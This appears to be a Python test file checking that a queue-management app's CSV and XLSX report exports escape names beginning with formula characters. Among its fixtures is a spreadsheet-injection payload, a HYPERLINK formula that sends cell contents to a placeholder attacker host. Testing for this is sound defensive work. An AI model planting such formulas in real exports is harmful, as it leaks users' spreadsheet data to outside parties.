"""Issue 12 item 8: names that start like a formula (=, +, -, @, tab, CR) never become one in
the CSV or XLSX exports."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest

from loket.server.app import create_app
from loket.server.config import load_config
from loket.server.supervisor.exports import FORMULA_STARTS, neutral
from tests.support.hall import SMALL_HALL
from tests.support.login import login

EVIL_SERVICE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
EVIL_COUNTER = "@SUM(1+1)"


@pytest.fixture
def evil_app(write_config: Any) -> Any:
    text = SMALL_HALL.replace('name = "KTP-el"', f"name = '{EVIL_SERVICE}'").replace(
        'name = "Loket 1"', f'name = "{EVIL_COUNTER}"').replace(
        'name = "Paspor"', 'name = "-2+3"').replace('agency = "Imigrasi"', 'agency = "+Imigrasi"')
    app = create_app(load_config(write_config(text)), async_mode="threading", testing=True)
    yield app
    app.extensions["loket.hub"].db.dispose()


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_neutral(start: str) -> None:
    assert neutral(start + "1") == "'" + start + "1"
    assert neutral(-5) == -5 and neutral("Loket 5") == "Loket 5"


def test_exports_carry_no_formulas(evil_app: Any) -> None:
    hub = evil_app.extensions["loket.hub"]
    client = evil_app.test_client()
    login(client, hub)
    for service in ("A", "C"):
        hub.issue_ticket(service)
    hub.counter_action("1", "next")
    hub.counter_action("1", "done")
    day = hub.day()
    for by in ("service", "counter", "agency"):
        text = client.get(f"/api/reports/export.csv?from={day}&to={day}&by={by}").get_data(True)
        cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
        for cell in cells:
            assert not cell.startswith(FORMULA_STARTS), (by, cell)
        named = {"service": EVIL_SERVICE, "counter": EVIL_COUNTER, "agency": "+Imigrasi"}[by]
        assert any(named in cell for cell in cells), (by, cells)  # the rows were there
        data = client.get(f"/api/reports/export.xlsx?from={day}&to={day}&by={by}").data
        workbook = openpyxl.load_workbook(io.BytesIO(data))
        texts = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (by, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
        wanted = {"service": EVIL_SERVICE, "counter": EVIL_COUNTER, "agency": "+Imigrasi"}[by]
        assert any(wanted in t for t in texts), (by, texts)  # the name itself is kept
